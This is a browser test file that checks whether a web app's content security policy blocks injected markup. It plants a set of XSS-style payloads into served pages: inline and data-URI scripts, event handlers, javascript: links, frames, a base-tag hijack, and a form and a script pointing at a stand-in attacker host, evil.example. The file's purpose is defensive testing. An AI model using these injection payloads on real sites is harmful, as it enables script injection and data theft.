"""A script that somebody planted in a page does not run, and the browser tells us of it."""

import re
import time
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Page, Route

from tests.browser.conftest import DESK, PHONE, sign_in
from tests.loopback import PLAIN

pytestmark = pytest.mark.browser
PLANTED = """
<script>window.planted = "inline"</script>
<script nonce="">window.planted = "an empty nonce"</script>
<script type="module">window.planted = "a module"</script>
<img src="/static/none.png" onerror="window.planted = 'a handler'" alt="">
<svg onload="window.planted = 'svg'"></svg>
<a id="planted-link" href="javascript:window.planted = 'a link'">x</a>
<iframe srcdoc="<script>parent.planted = 'a frame'</script>"></iframe>
<object data="data:text/html,<script>parent.planted = 'an object'</script>"></object>
<base href="https://evil.example/">
<style>#content { display: none }</style>
<form id="planted-form" action="https://evil.example/steal"></form>
<script src="data:text/javascript,window.planted = 'data'"></script>
<script src="https://evil.example/x.js"></script>
"""


def plant(route: Route) -> None:
    """Let the server answer, and put the planted markup into its page."""
    url = urlsplit(route.request.url)
    headers = route.request.all_headers() | {"host": url.netloc, "accept-encoding": "identity"}
    found = httpx.get(
        f"http://127.0.0.1:{url.port}{url.path}", headers=headers, timeout=60, verify=PLAIN
    )
    body = found.text.replace("</body>", PLANTED + "</body>")
    kept = {name: value for name, value in found.headers.items() if name != "content-length"}
    route.fulfill(status=found.status_code, headers=kept, body=body)


def visit_planted(page: Page, url: str) -> Page:
    page.route(url, plant)
    page.goto(url)
    page.evaluate("document.querySelector('#planted-link').click()")
    page.wait_for_timeout(300)
    return page


@pytest.fixture
def browse(chromium):
    contexts = []

    def make(viewport):
        contexts.append(chromium.new_context(viewport=viewport, locale="pt-BR"))
        return contexts[-1].new_page()

    yield make
    for context in contexts:
        context.close()


def check(page: Page, demo) -> None:
    assert page.evaluate("window.planted") is None
    assert page.locator("#content").is_visible()
    assert page.evaluate("document.baseURI").startswith("http://")
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    page.evaluate("document.querySelector('#planted-form').submit()")
    page.wait_for_timeout(300)
    assert [url for url in asked if "evil" in url] == []


@pytest.mark.parametrize("path", ["/cardapio/", "/carrinho/", "/nada/"])
def test_nothing_planted_runs_on_public_pages(demo, browse, path):
    page = visit_planted(browse(PHONE), demo.url("cantina", path))

    check(page, demo)
    assert page.evaluate("typeof htmx !== 'undefined' || !!document.querySelector('script[src]')")


def test_nothing_planted_runs_in_the_console(demo, browse):
    page = browse(DESK)
    sign_in(page, demo, "cantina", "demo")
    own_script = page.locator("script[src]").first.get_attribute("src")
    page = visit_planted(page, demo.url("cantina", "/painel/catalogo/"))

    check(page, demo)
    plain = f"<script src='{own_script}?planted'></script>"  # of this host, without the nonce
    page.goto(demo.url("cantina", "/painel/"))
    page.evaluate("""tag => document.open() || document.write(tag) || document.close()""", plain)
    page.wait_for_timeout(300)
    loaded = page.evaluate("performance.getEntriesByType('resource').map(entry => entry.name)")
    assert [name for name in loaded if "planted" in name] == []


def test_it_is_reported_and_logged(demo, browse):
    visit_planted(browse(PHONE), demo.url("cantina", "/cardapio/"))

    until = time.monotonic() + 60
    while time.monotonic() < until and "browser_refused" not in demo.log.read_text():
        time.sleep(0.2)
    assert re.search(r"browser_refused.*script-src", demo.log.read_text())


def test_a_drawing_is_downloaded_and_never_a_page(demo, browse):
    page = browse(DESK)
    page.goto(demo.url("cantina", "/cardapio/"))
    picture = page.locator("img[src*='.svg']").first.get_attribute("src")

    with page.expect_download() as download:
        page.evaluate("url => { location.href = url }", picture)

    assert download.value.suggested_filename.endswith(".svg")
